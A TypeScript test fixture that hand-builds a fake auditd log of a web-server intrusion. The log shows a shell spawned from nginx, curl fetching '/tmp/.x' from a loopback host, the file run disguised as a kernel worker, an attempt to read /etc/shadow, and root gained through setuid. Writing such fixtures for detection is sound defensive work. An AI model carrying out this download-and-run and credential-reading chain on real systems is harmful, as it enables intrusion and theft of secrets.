/**
 * A small audit log of one intrusion, made by hand: system calls in auditd's raw format.
 *
 * @module
 */
import { line } from "../recorder/audit-lines.ts";

export interface CallFacts {
  readonly clock: string;
  readonly serial: number;
  readonly number: number;
  readonly pid?: number;
  readonly ppid?: number;
  readonly uid?: number;
  readonly euid?: number;
  /** As audit writes a value: quoted, or bare hex. */
  readonly comm?: string;
  readonly exe?: string;
  /** 0 or more, or an errno below 0. */
  readonly exit?: number;
  /** a0 to a3, in hex. */
  readonly args?: readonly string[];
  /** Each the value of a PATH record's name; `CREATE:` before it for a file that was made. */
  readonly paths?: readonly string[];
  /** Hex, as of SOCKADDR. */
  readonly saddr?: string;
  /** Each as audit writes a value. */
  readonly argv?: readonly string[];
}

export function call(facts: CallFacts): string {
  const { clock, serial, number, pid = 500, ppid = 400, uid = 33, exit = 0 } = facts;
  const { comm = '"sh"', exe = '"/usr/bin/dash"', euid = uid, paths = [], argv } = facts;
  const [a0 = "0", a1 = "0", a2 = "0", a3 = "0"] = facts.args ?? [];
  const lines = [
    line(
      "SYSCALL",
      clock,
      serial,
      `arch=c000003e syscall=${number} success=${exit < 0 ? "no" : "yes"} exit=${exit} a0=${a0} ` +
        `a1=${a1} a2=${a2} a3=${a3} items=${paths.length} ppid=${ppid} pid=${pid} auid=1000 ` +
        `uid=${uid} gid=${uid} euid=${euid} suid=${euid} fsuid=${euid} egid=${uid} sgid=${uid} ` +
        `fsgid=${uid} tty=(none) ses=3 comm=${comm} exe=${exe} key=(null)`,
    ),
  ];
  if (argv !== undefined) {
    const shown = argv.map((each, at) => `a${at}=${each}`).join(" ");
    lines.push(line("EXECVE", clock, serial, `argc=${argv.length} ${shown}`));
  }
  const { saddr } = facts;
  if (saddr !== undefined) lines.push(line("SOCKADDR", clock, serial, `saddr=${saddr}`));
  for (const [item, each] of paths.entries()) {
    const [, made, name = ""] = /^(CREATE:)?(.*)$/su.exec(each) ?? [];
    lines.push(
      line(
        "PATH",
        clock,
        serial,
        `item=${item} name=${name} inode=${100 + item} dev=fe:01 mode=0100644 ouid=0 ogid=0 ` +
          `rdev=00:00 nametype=${made === undefined ? "NORMAL" : "CREATE"}`,
      ),
    );
  }
  lines.push(line("PROCTITLE", clock, serial, "proctitle=7368"), line("EOE", clock, serial, ""));
  return lines.join("");
}

export const EXECVE = 59;
export const OPENAT = 257;
export const CONNECT = 42;
const ACCEPT4 = 288;
const RENAME = 82;
const UNLINK = 87;
const PTRACE = 101;
const KILL = 62;
const EXIT_GROUP = 231;
const CLONE = 56;
const CHMOD = 90;
const SETUID = 105;

/** Bytes of a name as audit writes those that need no quoting: in hex. */
export function hex(text: string): string {
  return Buffer.from(text, "utf8").toString("hex").toUpperCase();
}

/** sockaddr_in. */
export function inet(address: string, port: number): string {
  const numbers = address.split(".").map((each) => Number(each).toString(16).padStart(2, "0"));
  const shown = `0200${port.toString(16).padStart(4, "0")}${numbers.join("")}${"0".repeat(16)}`;
  return shown.toUpperCase();
}

/** sockaddr_in6 of ::1. */
const LOOPBACK6 = `0A001F90${"0".repeat(8)}${"0".repeat(31)}1${"0".repeat(8)}`;

const nginx = { pid: 400, ppid: 1, comm: '"nginx"', exe: '"/usr/sbin/nginx"' };
const curl = { pid: 501, ppid: 500, comm: '"curl"', exe: '"/usr/bin/curl"' };
const tool = { pid: 502, ppid: 500, comm: '".x"', exe: '"/tmp/.x"' };

/** What an intruder does within eight seconds, and a login before it. */
export const ATTACK: string = [
  line("USER_LOGIN", "09:32:00", 1, "pid=300 uid=0 auid=1000 ses=3 msg='op=login res=success'"),
  call({
    ...nginx,
    clock: "09:32:07.100",
    serial: 2,
    number: ACCEPT4,
    saddr: inet("198.51.100.7", 51324),
    exit: 9,
  }),
  call({ ...nginx, clock: "09:32:07.104", serial: 3, number: CLONE, exit: 500 }),
  call({
    clock: "09:32:07.114",
    serial: 4,
    number: EXECVE,
    paths: ['"/bin/sh"'],
    argv: ['"sh"', '"-c"', hex("id; uname -a")],
  }),
  call({
    clock: "09:32:07.120",
    serial: 5,
    number: OPENAT,
    args: ["ffffff9c"],
    paths: ['"/etc/hosts"'],
    exit: 3,
  }),
  call({
    ...curl,
    clock: "09:32:09.530",
    serial: 6,
    number: EXECVE,
    paths: ['"/usr/bin/curl"'],
    argv: ['"curl"', '"-o"', '"/tmp/.x"', '"http://127.0.0.1:8081/s"'],
  }),
  call({
    ...curl,
    clock: "09:32:09.541",
    serial: 7,
    number: CONNECT,
    saddr: inet("127.0.0.1", 8081),
    exit: -115,
    args: ["5"],
  }),
  call({
    ...curl,
    clock: "09:32:09.547",
    serial: 8,
    number: OPENAT,
    exit: 4,
    args: ["ffffff9c", "0", "241", "1b6"],
    paths: ['CREATE:"/tmp/.x"'],
  }),
  call({
    clock: "09:32:09.900",
    serial: 9,
    number: CHMOD,
    args: ["0", "1ed"],
    paths: ['"/tmp/.x"'],
  }),
  call({
    ...tool,
    clock: "09:32:10.002",
    serial: 10,
    number: EXECVE,
    paths: ['"/tmp/.x"'],
    argv: [hex("[kworker/0:1]")],
  }),
  call({
    ...tool,
    clock: "09:32:10.006",
    serial: 11,
    number: OPENAT,
    args: ["ffffff9c"],
    paths: ['"/etc/shadow"'],
    exit: -13,
  }),
  call({
    ...tool,
    clock: "09:32:10.008",
    serial: 12,
    number: PTRACE,
    args: ["10", "190"],
    exit: -1,
  }),
  call({
    ...tool,
    clock: "09:32:10.010",
    serial: 13,
    number: RENAME,
    paths: ['"/tmp/.x"', 'CREATE:"/tmp/.y"'],
  }),
  call({
    ...tool,
    clock: "09:32:10.012",
    serial: 14,
    number: UNLINK,
    paths: ['"/tmp/nothing"'],
    exit: -2,
  }),
  call({ ...tool, clock: "09:32:10.014", serial: 15, number: SETUID, uid: 33, euid: 0 }),
  call({
    ...tool,
    clock: "09:32:10.016",
    serial: 16,
    number: KILL,
    args: ["190", "9"],
    uid: 33,
    euid: 0,
  }),
  call({
    ...tool,
    clock: "09:32:10.016",
    serial: 17,
    number: KILL,
    args: ["190", "9"],
    uid: 33,
    euid: 0,
  }),
  call({
    ...tool,
    clock: "09:32:12",
    serial: 18,
    number: CONNECT,
    saddr: LOOPBACK6,
    args: ["6"],
    uid: 33,
    euid: 0,
  }),
  call({ ...tool, clock: "09:32:15", serial: 19, number: EXIT_GROUP, uid: 33, euid: 0 }),
].join("");
